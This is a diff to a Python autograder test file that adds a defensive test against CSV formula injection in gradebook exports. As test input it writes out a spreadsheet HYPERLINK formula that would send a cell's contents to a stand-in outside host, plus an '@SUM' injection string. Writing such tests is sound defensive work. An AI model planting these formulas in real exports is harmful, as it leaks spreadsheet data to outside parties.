@@ -3,6 +3,7 @@ the learner bundle (checked by content) and the Gradescope autograder zip, and t
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import os
@@ -226,6 +227,16 @@ def test_a_hostile_reporter_string_costs_no_one_a_row(tmp_path, capsys):
     out = capsys.readouterr()
     assert "\x1b" not in out.out and "\x0c" not in out.out and "26/26 points\n" not in out.out.split("b_hostile")[1][:80]
     assert (tmp_path / "grades.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
+
+
+def test_csv_cells_never_start_a_formula():
+    """A learner names their upload `=HYPERLINK(...)`: the gradebook cell starts with an apostrophe, so a
+    spreadsheet shows it as text; the scores stay numbers."""
+    res = SubmissionResult('=HYPERLINK("http://x.invalid/?"&A1,"open")', sample().exercises, 0.5,
+                           message="@SUM(1+1) is not a readable zip file")
+    row = next(csv.reader(io.StringIO(gradebook_csv([res])).readlines()[1:]))
+    assert row[0].startswith("'=HYPERLINK") and row[-1].startswith("'@SUM")
+    assert row[1] == "2.5"
 
 
 def test_zip_intake_accepts_writestr_and_refuses_huge_directories_before_parsing(tmp_path):
